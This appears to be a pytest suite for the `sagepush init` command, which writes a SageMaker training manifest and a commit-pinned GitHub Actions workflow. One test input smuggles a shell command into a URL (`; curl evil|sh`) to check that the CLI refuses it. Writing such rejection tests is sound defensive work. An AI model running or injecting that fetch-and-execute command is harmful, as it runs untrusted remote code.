"""`sagepush init` and the CI workflow: a manifest that renders, the framework read from the requirements, the CLI
and every action pinned to a full commit."""

from __future__ import annotations

import re
import shlex
from pathlib import Path
from typing import Any

import pytest
import typer
import yaml
from typer.testing import CliRunner

from sagepush_cli import init as initialising
from sagepush_cli.main import EXIT_INPUT, app
from sagepush_cli.project import render_jobs

ROOT = Path(__file__).resolve().parents[2]
COMMIT = "3f1c2a9d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39"
SOURCE = ["--cli-source", "https://github.com/acme/sagepush", "--cli-commit", COMMIT]
# The source examples/ci/github-actions.yml names: a placeholder that installs nothing (no repository holds a commit
# of id 000…0) until it is replaced by a real repository and commit.
EXAMPLE_SOURCE = initialising.CliSource(url="https://github.com/your-org/sagepush", commit="0" * 40)
EDITABLE = {"url": "file:///home/me/sagepush", "dir_info": {"editable": True}}
PINNED_ACTION = re.compile(r"[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+@[0-9a-f]{40}")


@pytest.fixture(autouse=True)
def _no_source_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SAGEPUSH_CLI_SOURCE", raising=False)
    monkeypatch.delenv("SAGEPUSH_CLI_COMMIT", raising=False)


def installed_as(monkeypatch: pytest.MonkeyPatch, origin: dict[str, Any] | None) -> None:
    """Make the installed sagepush look installed as `origin` (its PEP 610 direct_url.json) says."""
    monkeypatch.setattr(initialising, "installed_origin", lambda: origin)


def uvx_words(workflow: str) -> list[str]:
    """The words of the workflow's one `run` step, the bucket variable replaced by `bucket`."""
    steps = yaml.safe_load(workflow)["jobs"]["train"]["steps"]
    [command] = [s["run"] for s in steps if "run" in s]
    return shlex.split(command.replace("${{ vars.SAGEPUSH_BUCKET }}", "bucket"))


def project(tmp_path: Path, requirements: str | None, *, script: str = "train.py") -> Path:
    directory = tmp_path / "churn"
    directory.mkdir()
    (directory / script).write_text("print('training')\n")
    if requirements is not None:
        (directory / "requirements.txt").write_text(requirements)
    return directory


@pytest.mark.parametrize(
    ("requirements", "framework", "version"),
    [
        ("torch==2.5.1\nnumpy\n", "pytorch", "2.5"),
        ("tensorflow\n", "tensorflow", "2.21"),
        ("scikit-learn>=1.3  # the model\npandas\n", "sklearn", "1.9-0"),
        ("xgboost==1.7.6\n", "xgboost", "1.7-1"),
        ("transformers[torch]==4.56.2\ntorch\n", "huggingface", "4.56"),
    ],
)
def test_framework_is_read_from_requirements_and_the_manifest_renders(
    tmp_path: Path, requirements: str, framework: str, version: str
) -> None:
    directory = project(tmp_path, requirements)

    result = CliRunner().invoke(app, ["init", str(directory), "--no-workflow"])

    assert result.exit_code == 0, result.output
    assert f"framework {framework} {version} (from requirements.txt)" in result.stdout
    (request,) = render_jobs(directory, region="eu-west-1")
    assert request["HyperParameters"]["sagemaker_program"] == '"train.py"'
    image = request["AlgorithmSpecification"]["TrainingImage"]
    assert version.split("-")[0] in image


def test_without_requirements_the_manifest_says_it_guessed(tmp_path: Path) -> None:
    directory = project(tmp_path, None, script="fit.py")

    result = CliRunner().invoke(app, ["init", str(directory), "--no-workflow"])

    assert result.exit_code == 0, result.output
    manifest = (directory / "sagepush.toml").read_text()
    assert 'framework = "pytorch"  # a default: no framework found' in manifest
    assert 'entry_point = "fit.py"' in manifest


@pytest.mark.parametrize(
    ("code", "requirements", "framework"),
    [
        ("from sklearn.ensemble import RandomForestClassifier\nimport pandas as pd\n", None, "sklearn"),
        ("import torch.nn as nn\n", "numpy\n", "pytorch"),
        ("import xgboost as xgb\nfrom sklearn.metrics import accuracy_score\n", None, "xgboost"),
        ("from transformers import Trainer\nimport torch\n", None, "huggingface"),
        ("import tensorflow as tf\n", "pandas==2.2.3\n", "tensorflow"),
    ],
    ids=["sklearn", "torch-beside-requirements-without-a-framework", "xgboost", "huggingface", "tensorflow"],
)
def test_without_a_framework_in_the_requirements_it_is_read_from_the_imports(
    tmp_path: Path, code: str, requirements: str | None, framework: str
) -> None:
    directory = project(tmp_path, requirements)
    (directory / "train.py").write_text(code)

    result = CliRunner().invoke(app, ["init", str(directory), "--no-workflow"])

    assert result.exit_code == 0, result.output
    assert f"framework {framework} " in result.stdout and "(from the imports of train.py)" in result.stdout
    assert (
        f'framework = "{framework}"  # read from the imports of train.py' in (directory / "sagepush.toml").read_text()
    )
    render_jobs(directory, region="eu-west-1")


def test_the_entry_point_can_be_named_and_must_exist(tmp_path: Path) -> None:
    directory = project(tmp_path, "torch\n", script="a.py")
    (directory / "b.py").write_text("")

    named = CliRunner().invoke(app, ["init", str(directory), "--no-workflow", "--entry-point", "b.py"])
    missing = CliRunner().invoke(app, ["init", str(directory), "--no-workflow", "--entry-point", "c.py", "--force"])

    assert named.exit_code == 0, named.output
    assert 'entry_point = "b.py"' in (directory / "sagepush.toml").read_text()
    assert missing.exit_code == EXIT_INPUT
    assert "--entry-point: 'c.py' is not a file in" in missing.stderr


@pytest.mark.parametrize(
    ("code", "requirements", "vocabulary"),
    [
        ("from sagemaker.train import ModelTrainer\nimport torch\n", None, "v3"),
        ("from sagemaker.modules.train import ModelTrainer\nimport torch\n", None, "v3"),
        ("import torch\n", "torch==2.5.1\nsagemaker>=3.1\n", "v3"),
        ("import torch\n", "torch==2.5.1\nsagemaker==2.232.1\n", "v2"),
        ("from sagemaker.pytorch import PyTorch\nimport torch\n", None, "v2"),
        ("import torch\n", None, "v2"),
    ],
    ids=["imports-sagemaker-train", "imports-sagemaker-modules", "pins-v3", "pins-v2", "imports-v2", "neither"],
)
def test_init_writes_the_sdk_vocabulary_the_project_uses_and_both_render_alike(
    tmp_path: Path, code: str, requirements: str | None, vocabulary: str
) -> None:
    directory = project(tmp_path, requirements)
    (directory / "train.py").write_text(code)

    result = CliRunner().invoke(app, ["init", str(directory), "--no-workflow"])

    assert result.exit_code == 0, result.output
    manifest = (directory / "sagepush.toml").read_text()
    v3_keys = ("source_code = ", "compute = ", "stopping_condition = ")
    assert all((key in manifest) == (vocabulary == "v3") for key in v3_keys), manifest
    assert ("entry_point = " in manifest) == (vocabulary == "v2")
    (request,) = render_jobs(directory, region="eu-west-1")
    assert request["HyperParameters"]["sagemaker_program"] == '"train.py"'
    assert request["StoppingCondition"]["MaxRuntimeInSeconds"] == 3600
    assert request["ResourceConfig"]["InstanceType"] == "ml.m5.large"


def test_existing_files_are_kept_and_nothing_is_written(tmp_path: Path) -> None:
    directory = project(tmp_path, "torch\n")
    (directory / "sagepush.toml").write_text("# mine\n")

    result = CliRunner().invoke(app, ["init", str(directory), *SOURCE])

    assert result.exit_code == EXIT_INPUT
    assert "sagepush.toml: exists; nothing was written (--force replaces it)" in result.stderr
    assert (directory / "sagepush.toml").read_text() == "# mine\n"
    assert not (directory / ".github").exists()


def test_no_entry_point_is_named_in_one_line(tmp_path: Path) -> None:
    directory = project(tmp_path, "torch\n", script="a.py")
    (directory / "b.py").write_text("")

    result = CliRunner().invoke(app, ["init", str(directory)])

    assert result.exit_code == EXIT_INPUT
    assert "has no train.py, main.py or training.py and several scripts (a.py, b.py)" in result.stderr


def test_workflow_is_written_at_the_repository_root_with_the_project_name(tmp_path: Path) -> None:
    directory = project(tmp_path, "torch\n")

    result = CliRunner().invoke(app, ["init", str(directory), *SOURCE])

    assert result.exit_code == 0, result.output
    workflow = (directory / ".github/workflows/sagepush.yml").read_text()
    source = initialising.CliSource(url="https://github.com/acme/sagepush", commit=COMMIT)
    assert workflow == initialising.workflow_text(source, "churn")
    assert '--project "churn"' in workflow
    assert f"installs the CLI from git+https://github.com/acme/sagepush@{COMMIT}" in result.stdout


def test_the_example_workflow_is_the_one_init_writes() -> None:
    assert (ROOT / "examples/ci/github-actions.yml").read_text() == initialising.workflow_text(EXAMPLE_SOURCE)


@pytest.mark.parametrize(
    "workflow",
    [
        pytest.param(initialising.workflow_text(EXAMPLE_SOURCE), id="init"),
        pytest.param((ROOT / "examples/ci/github-actions.yml").read_text(), id="example"),
    ],
)
def test_the_cli_and_every_action_are_pinned_to_full_commits(workflow: str) -> None:
    steps = yaml.safe_load(workflow)["jobs"]["train"]["steps"]
    actions = [step["uses"] for step in steps if "uses" in step]
    assert len(actions) == 3
    for action in actions:
        assert PINNED_ACTION.fullmatch(action), f"{action} is not pinned to a full commit"
        assert re.search(rf"uses: {re.escape(action)} # v\d+\.\d+\.\d+\n", workflow), f"{action}: no version comment"
    words = uvx_words(workflow)
    assert words[:2] == ["uvx", "--from"] and words[3:5] == ["sagepush", "push"]
    assert re.fullmatch(r"git\+https://[A-Za-z0-9./-]+@[0-9a-f]{40}", words[2]), words[2]
    assert "uvx sagepush" not in workflow


def test_the_workflow_assumes_the_role_through_oidc_and_runs_a_valid_push_wait() -> None:
    document = yaml.safe_load(initialising.workflow_text(EXAMPLE_SOURCE))

    assert document[True] == {"push": {"branches": ["main"]}}  # YAML 1.1 reads the key `on` as true
    assert document["permissions"]["id-token"] == "write"
    steps = document["jobs"]["train"]["steps"]
    [credentials] = [s for s in steps if s.get("uses", "").startswith("aws-actions/configure-aws-credentials@")]
    assert credentials["with"]["role-to-assume"] == "${{ vars.SAGEPUSH_ROLE_ARN }}"
    words = uvx_words(initialising.workflow_text(EXAMPLE_SOURCE))
    assert words[3:5] == ["sagepush", "push"] and "--wait" in words
    group = typer.main.get_command(app)
    context = group.make_context("sagepush", ["push"])
    push = group.get_command(context, "push")  # type: ignore[attr-defined]
    parsed = push.make_context("push", words[5:]).params
    assert parsed["wait"] is True and parsed["bucket"] == "bucket"


def test_the_cli_source_defaults_to_the_git_commit_sagepush_was_installed_from(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # What pip and uv record for `uv tool install git+https://github.com/acme/sagepush.git@main` (PEP 610).
    origin = {
        "url": "https://github.com/acme/sagepush.git",
        "vcs_info": {"vcs": "git", "requested_revision": "main", "commit_id": COMMIT.upper()},
    }
    installed_as(monkeypatch, origin)
    directory = project(tmp_path, "torch\n")

    result = CliRunner().invoke(app, ["init", str(directory)])

    assert result.exit_code == 0, result.output
    words = uvx_words((directory / ".github/workflows/sagepush.yml").read_text())
    assert words[2] == f"git+https://github.com/acme/sagepush.git@{COMMIT}"  # the commit, never `main`


def test_a_detected_subdirectory_is_kept_and_options_override_the_detected_source() -> None:
    origin = {
        "url": "https://github.com/acme/tools",
        "subdirectory": "sagepush",
        "vcs_info": {"vcs": "git", "commit_id": COMMIT},
    }

    detected = initialising.cli_source(None, None, origin=origin)
    moved = initialising.cli_source(None, "a" * 40, origin=origin)
    fork = initialising.cli_source("git+https://github.com/me/sagepush", None, origin=origin)

    assert detected.requirement == f"git+https://github.com/acme/tools@{COMMIT}#subdirectory=sagepush"
    assert moved.requirement == f"git+https://github.com/acme/tools@{'a' * 40}#subdirectory=sagepush"
    assert fork.requirement == f"git+https://github.com/me/sagepush@{COMMIT}"


def test_the_source_can_come_from_the_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    installed_as(monkeypatch, EDITABLE)
    directory = project(tmp_path, "torch\n")
    env = {"SAGEPUSH_CLI_SOURCE": "https://github.com/acme/sagepush", "SAGEPUSH_CLI_COMMIT": COMMIT}

    result = CliRunner().invoke(app, ["init", str(directory)], env=env)

    assert result.exit_code == 0, result.output
    assert (
        f"git+https://github.com/acme/sagepush@{COMMIT}" in (directory / ".github/workflows/sagepush.yml").read_text()
    )


@pytest.mark.parametrize(
    ("origin", "installed"),
    [
        pytest.param(EDITABLE, "an editable checkout (/home/me/sagepush)", id="editable-checkout"),
        pytest.param(None, "a package index or by hand", id="index"),
        pytest.param(
            {"url": "https://example.com/sagepush-0.1.0.tar.gz", "archive_info": {}}, "an archive", id="archive"
        ),
    ],
)
def test_init_refuses_when_the_cli_source_cannot_be_determined(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, origin: dict[str, Any] | None, installed: str
) -> None:
    installed_as(monkeypatch, origin)
    directory = project(tmp_path, "torch\n")

    result = CliRunner().invoke(app, ["init", str(directory)])

    assert result.exit_code == EXIT_INPUT
    message = " ".join(result.stderr.split())  # rich may wrap the line
    assert message.startswith("error: --cli-source: the workflow installs the sagepush CLI from a git repository")
    assert f"was installed from {installed}, not from git" in message
    assert "pass --cli-source https://github.com/<owner>/<repo> and --cli-commit" in message
    assert sorted(p.name for p in directory.iterdir()) == ["requirements.txt", "train.py"]  # nothing written


def test_this_checkout_is_no_source_the_workflow_could_install(tmp_path: Path) -> None:
    # The tests run from an editable install (uv sync): the real direct_url.json says so, and init refuses.
    directory = project(tmp_path, "torch\n")

    result = CliRunner().invoke(app, ["init", str(directory)])

    assert result.exit_code == EXIT_INPUT
    assert "--cli-source" in result.stderr and "editable checkout" in " ".join(result.stderr.split())


@pytest.mark.parametrize(
    ("arguments", "where", "says"),
    [
        (["--cli-source", "https://github.com/acme/sagepush"], "--cli-commit", "is needed with --cli-source"),
        (
            ["--cli-source", "https://github.com/a/b", "--cli-commit", "main"],
            "--cli-commit",
            "'main' is not a full 40-hex",
        ),
        (["--cli-source", "https://github.com/a/b", "--cli-commit", "v1.2.0"], "--cli-commit", "is not a full 40-hex"),
        (
            ["--cli-source", "https://github.com/a/b", "--cli-commit", COMMIT[:12]],
            "--cli-commit",
            "is not a full 40-hex",
        ),
        (["--cli-source", "http://github.com/a/b", "--cli-commit", COMMIT], "--cli-source", "is not an https URL"),
        (
            ["--cli-source", "https://x:ghp_t@github.com/a/b", "--cli-commit", COMMIT],
            "--cli-source",
            "without credentials",
        ),
        (["--cli-source", "git@github.com:a/b.git", "--cli-commit", COMMIT], "--cli-source", "is not an https URL"),
        (
            ["--cli-source", "https://github.com/a/b@main", "--cli-commit", COMMIT],
            "--cli-source",
            "is not an https URL",
        ),
        (["--cli-source", 'https://github.com/a/b" ; curl evil|sh', "--cli-commit", COMMIT], "--cli-source", "is not"),
    ],
    ids=["no-commit", "branch", "tag", "short-id", "http", "credentials", "ssh", "revision-in-url", "shell"],
)
def test_a_movable_or_unsafe_cli_source_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, arguments: list[str], where: str, says: str
) -> None:
    installed_as(monkeypatch, EDITABLE)
    directory = project(tmp_path, "torch\n")

    result = CliRunner().invoke(app, ["init", str(directory), *arguments])

    assert result.exit_code == EXIT_INPUT
    message = " ".join(result.stderr.split())
    assert message.startswith(f"error: {where}: ") and says in message, message
    assert not (directory / ".github").exists() and not (directory / "sagepush.toml").exists()


def test_an_ssh_install_is_named_and_refused() -> None:
    origin = {"url": "ssh://git@github.com/acme/sagepush.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}

    with pytest.raises(initialising.InitError, match=r"^--cli-source \(from the installed sagepush\): 'ssh://git@"):
        initialising.cli_source(None, None, origin=origin)
